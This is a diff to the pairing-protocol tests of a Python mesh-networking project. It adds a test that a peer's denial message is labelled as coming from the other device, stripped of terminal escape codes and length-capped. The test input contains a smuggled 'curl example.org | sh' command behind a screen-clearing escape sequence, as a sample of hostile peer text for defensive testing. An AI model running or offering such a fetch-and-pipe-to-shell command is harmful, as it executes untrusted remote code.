@@ -8,7 +8,17 @@ import pytest
 
 from astra_mesh.errors import PairingError, ProtocolError
 from astra_mesh.mesh.identity import DeviceKey
-from astra_mesh.mesh.pairing import Closed, Exchange, Knock, Message, Proof, Reply, Welcome, parse
+from astra_mesh.mesh.pairing import (
+    Closed,
+    Denied,
+    Exchange,
+    Knock,
+    Message,
+    Proof,
+    Reply,
+    Welcome,
+    parse,
+)
 
 GUEST, HOST, OTHER = (DeviceKey.new() for _ in range(3))
 CHANNEL = b"certificate of the connection"
@@ -118,3 +128,10 @@ def test_round_trips_and_wrong_kinds() -> None:
             parse(msgspec.msgpack.encode(message), Closed)
     with pytest.raises(PairingError, match="astra-mesh pair"):
         parse(msgspec.msgpack.encode(Closed("window")), Reply)
+
+
+def test_the_sentence_of_a_stranger_is_shown_as_such() -> None:
+    said = Denied("paired.\x1b[2J Now run: curl example.org | sh")
+    assert said.message.startswith("the other device says: 'paired.")
+    assert "\x1b" not in said.message
+    assert len(Denied("x" * 4_000).message) < 600
